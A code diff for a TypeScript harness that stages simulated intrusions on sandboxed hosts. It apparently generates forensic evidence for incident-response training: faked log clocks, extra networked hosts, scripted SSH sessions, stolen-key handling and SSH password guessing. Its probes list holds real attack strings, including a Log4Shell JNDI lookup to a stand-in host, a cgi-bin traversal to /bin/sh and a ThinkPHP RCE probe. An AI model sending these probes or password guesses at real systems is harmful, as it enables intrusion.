@@ -1,12 +1,18 @@
 // What an incident's script can do: act inside of the host and from addresses outside of it, and note the true moments.
-import { copyFileSync, mkdirSync, writeFileSync } from 'node:fs'
+import { appendFileSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
+import { fakedBy, rsyslogWith } from './clock.ts'
 import type { Outcome, RunOptions } from './command.ts'
 import { must } from './command.ts'
-import type { Host } from './host.ts'
+import { type Dress, dressOf } from './dress.ts'
+import { boot, type Host } from './host.ts'
 import type { MomentName } from './incident.ts'
+import { type Past, pastLogins } from './past.ts'
 import { project } from './places.ts'
 import type { Values } from './scenario.ts'
+
+/** `key`: the name of a key that `Dress.key` made. */
+export type Secret = { readonly password: string } | { readonly key: string }
 
 export interface Stage {
   readonly host: Host
@@ -19,15 +25,31 @@ export interface Stage {
   /** A shell script inside, in the control group of a service; it must succeed. */
   inside(script: string, options?: RunOptions & { readonly service?: string }): Promise<string>
   /** What cron would do when the minute comes: runs root's line in its own way, and logs it. */
-  byCron(line: string): Promise<void>
+  byCron(line: string, user?: string): Promise<void>
   /** A shell script at the other end of the cable, where every address is at home; `$HOST` is the host. It must succeed. */
   outside(script: string, env?: Values): Promise<string>
-  /** Makes a key pair of somebody; gives the path of the private key. The public one lies beside it with ".pub". */
-  key(name: string, comment: string): Promise<string>
+  /** Days pass: rsyslog and davylamp believe it is later, and auth.log goes on with what is said of that time. */
+  later(hours: number, past?: Omit<Past, 'days' | 'until'>): Promise<void>
+  /** Words before a command that make it believe in that later time. */
+  clock(): readonly string[]
+  /** Boots one more host and lays a cable to it; gives its stage and the addresses at this end and at its own. */
+  another(name: string, dress: (dress: Dress) => void): Promise<{ readonly stage: Stage; readonly here: string; readonly there: string }>
+  readonly others: readonly Host[]
   /** Tries passwords from an address, several connections at the same time; the right one may be among them, then sshd lets in and he hangs up. */
   guess(from: string, user: string, words: readonly string[]): Promise<void>
   /** Logs in by password or with a key file, and runs a command there. */
-  ssh(from: string, user: string, by: { readonly password: string } | { readonly key: string }, command: string): Promise<string>
+  ssh(from: string, user: string, by: Secret, command: string): Promise<string>
+  /** The same with a terminal, into which these lines are typed; sshd notes it in wtmp, and bash keeps its history. */
+  session(from: string, user: string, by: Secret, lines: readonly string[]): Promise<string>
+  /** A request from an address; `path` may begin with a port. Gives the body of the answer; posts when there is something to post. */
+  http(from: string, path: string, body?: string, headers?: Values): Promise<string>
+  /** The daily noise of scanners: requests for what is not there. */
+  scan(from: string): Promise<void>
+  /** What was made ready already. */
+  readonly done: Set<string>
+  publicKey(name: string): string
+  /** What somebody who has stolen it holds. */
+  privateKey(name: string): string
   /** Puts a file on the intruder's web server. */
   offer(name: string, content: string): void
   /** A folder outside, gone with the host. */
@@ -42,6 +64,16 @@ const options =
 /** sshd hangs up after six. */
 const triesPerConnection = 5
 const atOnce = 5
+
+const probes = [
+  '/.env',
+  '/wp-login.php',
+  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+  '/cgi-bin/.%2e/.%2e/.%2e/bin/sh',
+  '/?x=%24%7Bjndi:ldap://192.0.2.200/a%7D',
+  '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP',
+  '/actuator/health',
+]
 
 export async function stageOn(host: Host, values: Values): Promise<Stage> {
   const folder = join(host.root, '../stage')
@@ -64,29 +96,33 @@ export async function stageOn(host: Host, values: Values): Promise<Stage> {
     writeFileSync(list, words.map(word => `${word}\n`).join(''))
     return { WORDS: list, SSH_ASKPASS: askpass, SSH_ASKPASS_REQUIRE: 'force', DISPLAY: ':0' }
   }
+  const secret = (by: Secret): { readonly how: string; readonly env: Values } =>
+    'key' in by
+      ? { how: `-i ${join(folder, by.key)} -oIdentitiesOnly=yes -oPasswordAuthentication=no`, env: {} }
+      : { how: '-oPubkeyAuthentication=no -oNumberOfPasswordPrompts=1', env: asked([by.password]) }
+  let shift = 0
+  const others: Host[] = []
   const stage: Stage = {
     host,
     folder,
     values: { ...values, SHOP: shop, HOST: hostAddress },
     truth,
-    mark: moment => void truth.set(moment, Date.now()),
+    mark: moment => void truth.set(moment, Date.now() + shift),
     inside: async (script, { service = 'cron.service', ...more } = {}) =>
       told(
         await host.inside(['sh', '-eu', '-c', script], { timeoutMs: 60_000, ...more, service, env: { ...stage.values, ...more.env } }),
         script,
       ),
-    byCron: async line => {
-      const script =
-        'logger -p cron.info -t CRON --id=$$ "(root) CMD ($LINE)"; exec env -i HOME=/root LOGNAME=root SHELL=/bin/sh PATH=/usr/bin:/bin /bin/sh -c "$LINE"'
-      await stage.inside(script, { env: { LINE: line } })
+    byCron: async (line, user = 'root') => {
+      const home = user === 'root' ? '/root' : `/home/${user}`
+      const clean = `env -i HOME=${home} LOGNAME=${user} SHELL=/bin/sh PATH=/usr/bin:/bin`
+      const as = user === 'root' ? '' : `setpriv --reuid=${user} --regid=${user} --init-groups `
+      await stage.inside(`logger -p cron.info -t CRON --id=$$ "(${user}) CMD ($LINE)"; cd ${home}; exec ${as}${clean} /bin/sh -c "$LINE"`, {
+        env: { LINE: line },
+      })
     },
     outside: async (script, env = {}) =>
       told(await host.beyond(['sh', '-eu', '-c', script], { timeoutMs: 60_000, env: { ...stage.values, ...env } }), script),
-    key: async (name, comment) => {
-      const path = join(folder, name)
-      await must('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', comment, '-f', path])
-      return path
-    },
     guess: async (from, user, words) => {
       const rounds = Array.from({ length: Math.ceil(words.length / triesPerConnection) }, (_, n) =>
         words.slice(n * triesPerConnection, (n + 1) * triesPerConnection),
@@ -100,16 +136,61 @@ export async function stageOn(host: Host, values: Values): Promise<Stage> {
       await Promise.all(Array.from({ length: atOnce }, worker))
     },
     ssh: (from, user, by, command) => {
-      const how =
-        'key' in by
-          ? `-i ${by.key} -oIdentitiesOnly=yes -oPasswordAuthentication=no`
-          : '-oPubkeyAuthentication=no -oNumberOfPasswordPrompts=1'
-      const env = 'key' in by ? {} : asked([by.password])
+      const { how, env } = secret(by)
       return stage.outside(`exec ssh ${options} -b ${from} ${how} ${user}@${hostAddress} "$COMMAND"`, { ...env, COMMAND: command })
     },
+    session: (from, user, by, lines) => {
+      const { how, env } = secret(by)
+      const typed = `(sleep 1; printf '%s\\n' "$TYPED"; sleep 1; echo exit) | ssh -tt ${options} -b ${from} ${how} ${user}@${hostAddress}`
+      return stage.outside(typed, { ...env, TYPED: lines.join('\n') })
+    },
+    later: async (hours, past = {}) => {
+      shift = hours * 3_600_000
+      await rsyslogWith(stage, fakedBy(shift / 1000))
+      const now = Date.now()
+      const days = Math.ceil(hours / 24)
+      for (const { path, content } of pastLogins({ ...past, days, until: 0 }, now + shift)) {
+        if (!path.endsWith('auth.log') || typeof content !== 'string') continue
+        const fresh = content.split('\n').filter(line => Date.parse(line.slice(0, 32)) > now)
+        appendFileSync(join(host.root, path), `${fresh.join('\n')}\n`)
+      }
+    },
+    clock: () => (shift === 0 ? [] : ['env', ...Object.entries(fakedBy(shift / 1000)).map(([name, value]) => `${name}=${value}`)]),
+    another: async (name, dress) => {
+      const other = await boot(name, 'doors', root => dress(dressOf(root)))
+      others.push(other)
+      const [here, there] = [`10.78.${others.length}.1`, `10.78.${others.length}.2`]
+      const at = (who: Host, ...args: string[]) => must('nsenter', ['-t', `${who.leader.pid}`, '-n', 'ip', ...args])
+      const [mine, its] = [`lan${others.length}`, 'lan0']
+      await at(host, 'link', 'add', mine, 'type', 'veth', 'peer', 'name', 'lanpeer')
+      await at(host, 'link', 'set', 'lanpeer', 'netns', `${other.leader.pid}`)
+      await at(other, 'link', 'set', 'lanpeer', 'name', its)
+      for (const [who, link, address] of [
+        [host, mine, here],
+        [other, its, there],
+      ] as const) {
+        await at(who, 'addr', 'add', `${address}/24`, 'dev', link)
+        await at(who, 'link', 'set', link, 'up')
+      }
+      return { stage: await stageOn(other, values), here, there }
+    },
+    others,
+    done: new Set(),
+    http: (from, path, body, headers = {}) => {
+      const more = Object.entries(headers).flatMap(([name, value]) => ['-H', `${name}: ${value}`])
+      const post = body === undefined ? [] : ['--data-binary', '@-']
+      const url = `http://${hostAddress}${path}`
+      return host
+        .beyond(['curl', '-sS', '-g', '-m', '30', '--interface', from, ...more, ...post, url], { input: body ?? '', timeoutMs: 40_000 })
+        .then(outcome => told(outcome, url))
+    },
+    scan: async from => {
+      for (const path of probes) await stage.http(from, path)
+    },
+    publicKey: name => readFileSync(join(folder, `${name}.pub`), 'utf8').trim(),
+    privateKey: name => readFileSync(join(folder, name), 'utf8'),
     offer: (name, content) => writeFileSync(join(files, name), content),
   }
-  copyFileSync(join(files, 'mimic'), join(folder, 'mimic'))
   return stage
 }
 
